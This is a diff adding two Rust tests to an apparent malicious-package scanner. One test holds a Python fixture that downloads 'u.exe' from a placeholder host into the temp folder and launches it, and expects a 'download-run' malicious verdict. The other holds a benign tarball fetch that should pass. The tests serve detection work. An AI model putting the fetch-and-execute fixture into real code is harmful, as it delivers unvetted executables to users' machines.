@@ -552,3 +552,50 @@ fn code_examples_in_docstrings_are_not_payloads() {
     ]);
     assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
 }
+
+#[test]
+fn helper_that_saves_a_download_then_a_helper_that_starts_it_is_malicious() {
+    // The download lands at the path the caller hands to `download`, and the same
+    // variable goes to `launch`: the two nested helpers together run a download.
+    let verdict = assert_level(
+        &[
+            PKG_INFO,
+            (
+                "fixture/__init__.py",
+                "import os, requests\n\
+                 def update():\n    \
+                     def download(url, path):\n        \
+                         r = requests.get(url)\n        \
+                         with open(path, 'wb') as f:\n            \
+                             f.write(r.content)\n    \
+                     def launch(path):\n        \
+                         os.startfile(path)\n    \
+                     target = os.path.join(os.getenv('TEMP', '.'), 'u.exe')\n    \
+                     download('http://cdn.example.invalid/u.exe', path=target)\n    \
+                     launch(target)\n",
+            ),
+        ],
+        VerdictLevel::Malicious,
+    );
+    assert!(rules(&verdict).contains(&"download-run"), "{verdict:#?}");
+}
+
+#[test]
+fn helper_that_saves_a_download_then_unpacks_it_is_not_a_download_run() {
+    // A prebuilt archive fetched by a helper and unpacked with tar is how builds get
+    // their binaries.
+    let verdict = verdict(&[
+        PKG_INFO,
+        (
+            "fixture/__init__.py",
+            "import subprocess, urllib.request\n\
+             def fetch(url, dest):\n    \
+                 urllib.request.urlretrieve(url, dest)\n\
+             def prepare():\n    \
+                 archive = 'build/lib.tar.gz'\n    \
+                 fetch('https://github.com/fixture/lib/releases/download/v1/lib.tar.gz', archive)\n    \
+                 subprocess.check_call(['tar', 'xzf', archive, '-C', 'build'])\n",
+        ),
+    ]);
+    assert!(!rules(&verdict).contains(&"download-run"), "{verdict:#?}");
+}
